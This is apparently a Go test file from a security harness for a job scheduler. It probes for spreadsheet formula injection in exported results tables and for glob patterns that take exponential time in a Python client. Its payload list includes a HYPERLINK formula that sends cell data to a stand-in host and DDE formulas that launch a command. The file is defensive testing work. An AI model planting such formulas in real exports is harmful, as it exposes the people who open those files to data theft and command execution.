package hostile

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"godwit/scheduler/message"
	"godwit/task"
)

// tables are attacks on what people do with results and files.
func tables() []attack {
	return []attack{
		{id: "T12", play: playTable, plain: true, threat: "results that a spreadsheet executes",
			before: "cells of a table began with = and + as workers wrote them, and column names were kept without limit"},
		{id: "T16", play: playPatterns, plain: true, threat: "file patterns that take exponential time",
			before: "ten ** with 20 directories took the Python client 35 s, and *a*a*a*a*b with 255 letters 20 s"},
	}
}

// formulas are values that a spreadsheet executes.
var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"ok")`, "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "@A1", "+A1", "-A1", "=1;2",
	"\n=1+1"}

// playTable has a worker answer with objects of such values and names, and writes a table of the job's results.
func playTable(ctx context.Context, f *field, row *Row) error {
	file, _, err := f.jobFile(f.Times, "verify: \"off\"\n")
	if err != nil {
		return err
	}
	var id task.JobID
	if err := f.paused(ctx, func() error {
		said, err := f.helper().Verb(ctx, f.dir, "run", file, "--detach", "--overlay", openName)
		if err != nil {
			return err
		}
		id = task.JobID(said)
		rng := f.rng
		if _, err := f.labour(ctx, fellow, id, 4, usualMachine, func(l *message.Lease) *task.Result {
			o := map[string]string{"value": formulas[rng.IntN(len(formulas))]}
			for range 12 {
				name := fmt.Sprintf("f%d", rng.IntN(1<<30))
				if rng.IntN(2) == 0 {
					name = formulas[rng.IntN(len(formulas))] + name
				}
				o[name] = formulas[rng.IntN(len(formulas))]
			}
			b, _ := json.Marshal(o) // of texts it cannot fail
			for len(b) > task.MaxInline {
				for k := range o {
					delete(o, k)
					break
				}
				b, _ = json.Marshal(o)
			}
			r := saying(id, int(l.Task.Index), string(b)+"\n")
			return &r
		}); err != nil {
			return err
		}
		p := &prey{f: f, at: f.helper(), id: id, tasks: f.Times}
		return until(ctx, preyLimit, func() error {
			if v, err := p.view(ctx); err != nil || !v.Final {
				return fmt.Errorf("%d of %d results are there: %w", v.Held, f.Times, errors.Join(err, errNotDone))
			}
			return nil
		})
	}); err != nil {
		return err
	}
	table := filepath.Join(f.dir, "table.csv")
	_, _ = f.helper().Verb(ctx, f.dir, "results", string(id), "--table", table) // it may warn of what it found wrong
	bad, columns, err := f.judgeTable(row, table)
	if err != nil {
		return err
	}
	row.now("%d rows with such a cell, %d columns", bad, columns)
	return nil
}

// judgeTable counts the rows of a table that have a cell which a spreadsheet executes.
func (f *field) judgeTable(row *Row, table string) (bad, columns int, err error) {
	r, err := os.Open(table)
	if err != nil {
		return 0, 0, err
	}
	defer r.Close()
	all, err := csv.NewReader(r).ReadAll()
	if err != nil {
		return 0, 0, err
	}
	v := &Varied{Seed: f.Seed, Of: "results of a worker with values and names that a spreadsheet executes"}
	first := ""
	for k, line := range all {
		columns = max(columns, len(line))
		executed := ""
		for _, cell := range line {
			if executes(cell) && executed == "" {
				executed = cell
			}
		}
		if k > 0 {
			v.Runs++
		}
		if executed != "" {
			bad++
			first = orFirst(first, "line %d has the cell %.40q", k, executed)
			if k > 0 {
				v.Succeeded++
			}
		}
	}
	row.judge(v, first)
	const most = 1100 // columns that tasks may add, and a table's own
	if columns > most {
		row.broke("the table has %d columns", columns)
	}
	if bad > 0 && v.Succeeded == 0 {
		row.broke("%s", first)
	}
	return bad, columns, nil
}

// executes reports whether a spreadsheet takes a cell for a formula. Numbers are none.
func executes(cell string) bool {
	if _, err := strconv.ParseFloat(cell, 64); err == nil || cell == "" {
		return false
	}
	return strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// patternLimit is how long the Python client may take for one pattern: a linear one takes a millisecond.
const patternLimit = 2 * time.Second

// patternProgram matches each line of standard input, a pattern and a name, and prints how long that took.
const patternProgram = `
import signal, sys, time
sys.path.insert(0, sys.argv[1])
from godwit import _inputs
def late(*_): raise TimeoutError()
signal.signal(signal.SIGALRM, late)
for line in sys.stdin:
    pattern, name = line.rstrip("\n").split("\t")
    began = time.monotonic()
    signal.setitimer(signal.ITIMER_REAL, float(sys.argv[2]))
    try:
        _inputs.matches(pattern.split("/"), name.split("/"))
        said = "ok"
    except TimeoutError:
        said = "late"
    signal.setitimer(signal.ITIMER_REAL, 0)
    print(said, round(time.monotonic() - began, 3), flush=True)
`

// playPatterns matches patterns of job files that somebody else has written.
func playPatterns(ctx context.Context, f *field, row *Row) error {
	var in strings.Builder
	var all []string
	for range f.Times {
		p := f.pattern()
		all = append(all, p)
		in.WriteString(p + "\n")
	}
	said, err := python(ctx, in.String(), patternProgram, "clients/python", fmt.Sprint(patternLimit.Seconds()))
	if err != nil {
		row.broke("the Python client could not be run, from the repository: %v", err)
		return nil
	}
	v := &Varied{Seed: f.Seed, Of: "patterns of files with many stars and deep directories, in the Python client"}
	first := ""
	for k, line := range strings.Split(strings.TrimSpace(said), "\n") {
		if k >= len(all) {
			break
		}
		v.Runs++
		if !strings.HasPrefix(line, "ok") {
			v.Succeeded++
			first = orFirst(first, "%.80q took more than %v", all[k], patternLimit)
		}
	}
	row.judge(v, first)
	if v.Runs < f.Times {
		row.broke("%d of %d patterns were matched", v.Runs, f.Times)
	}
	return rest(ctx)
}

// pattern draws a pattern and a name that it nearly matches, with a tab between them.
func (f *field) pattern() string {
	n := 5 + f.rng.IntN(10)
	if f.rng.IntN(2) == 0 {
		return strings.Repeat("**/", n) + "x\t" + strings.Repeat("a/", 10+f.rng.IntN(20)) + "y"
	}
	letter := string(rune('a' + f.rng.IntN(26)))
	return strings.Repeat("*"+letter, n) + "*!\t" + strings.Repeat(letter, 100+f.rng.IntN(155))
}
